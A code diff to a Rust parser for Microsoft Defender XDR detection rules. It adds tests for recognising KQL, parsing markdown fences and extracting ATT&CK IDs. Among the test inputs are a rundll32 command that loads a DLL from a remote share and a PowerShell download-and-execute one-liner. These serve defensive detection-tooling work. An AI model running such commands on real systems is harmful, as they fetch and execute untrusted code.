@@ -302,10 +302,9 @@ fn load_file(root: &Root, file: &SourceFile, info: &RootInfo) -> Loaded {
 fn place(rule: &mut Rule, rel: &str) {
     let parts: Vec<&str> = rel.split('/').collect();
     let dirs = &parts[..parts.len().saturating_sub(1)];
-    match dirs
-        .iter()
-        .position(|p| p.eq_ignore_ascii_case("defender-xdr"))
-    {
+    match dirs.iter().position(|p| {
+        p.eq_ignore_ascii_case("defender-xdr") || p.eq_ignore_ascii_case("defender_xdr")
+    }) {
         Some(i) if dirs.len() > i + 1 => {
             rule.metadata
                 .push(("Collection".into(), dirs[i + 1].to_string()));
@@ -655,4 +654,48 @@ fn attack_ids(rule: &mut Rule, prose: &str, tables: bool) {
 }
 
 #[cfg(test)]
-mod tests {}
+mod tests {
+    use super::*;
+
+    #[test]
+    fn kql_looking_text() {
+        assert!(looks_like_kql("// c\nDeviceProcessEvents\n| where A == 1"));
+        assert!(looks_like_kql("DeviceInfo | take 10"));
+        assert!(looks_like_kql("let x = 1;\nT | where a == x"));
+        assert!(looks_like_kql("union DeviceEvents, DeviceFileEvents"));
+        assert!(looks_like_kql("arg(\"\").Resources | take 1"));
+        assert!(!looks_like_kql(
+            r"rundll32.exe \\10.0.0.1\share\x.dll,Entry"
+        ));
+        assert!(!looks_like_kql(
+            "powershell -exec bypass -c \"iwr x | iex\""
+        ));
+        assert!(!looks_like_kql(r"HKLM:\SOFTWARE\Run"));
+        assert!(!looks_like_kql("SigninLogs"));
+        assert!(!looks_like_kql("Remember to tune the thresholds."));
+    }
+
+    #[test]
+    fn fences_and_their_languages() {
+        let page = "# T\n\n## A\n```kql\nT | where a == 1\n```\n\n```powershell\nGet-Thing | x\n```\n\n~~~\nlet v = 'x';\n~~~\n\n## B\n```DeviceEvents\n| where b == 2\n```\n";
+        let f = query_fences(page);
+        assert_eq!(f.len(), 2);
+        assert_eq!(f[0].heading.as_deref(), Some("A"));
+        assert_eq!(f[0].line, 5);
+        assert!(f[0].explicit_kql);
+        assert_eq!(f[1].query, "DeviceEvents\n| where b == 2\n");
+        assert_eq!(f[1].line, 17);
+        assert_eq!(f[1].heading.as_deref(), Some("B"));
+        // An unclosed fence runs to the end of the page.
+        assert_eq!(query_fences("```\nT | where a == 1\n").len(), 1);
+    }
+
+    #[test]
+    fn attack_ids_from_prose_and_tables() {
+        let mut r = Rule::new(Vendor::DefenderXdr, "x", SourceLocation::default());
+        let prose = "| TA0005 - Defense Evasion | T1550 | 003 | x |\nSee https://attack.mitre.org/techniques/T1021/002/ and T1059.001; not T12345.\n| Technique, tactic, or state | Covered? (v=yes) | Notes |\n| Execution | v | |\n| Impact |  | |\n";
+        attack_ids(&mut r, prose, true);
+        assert_eq!(r.techniques, vec!["T1550.003", "T1021.002", "T1059.001"]);
+        assert_eq!(r.tactics, vec!["TA0005", "TA0002"]);
+    }
+}
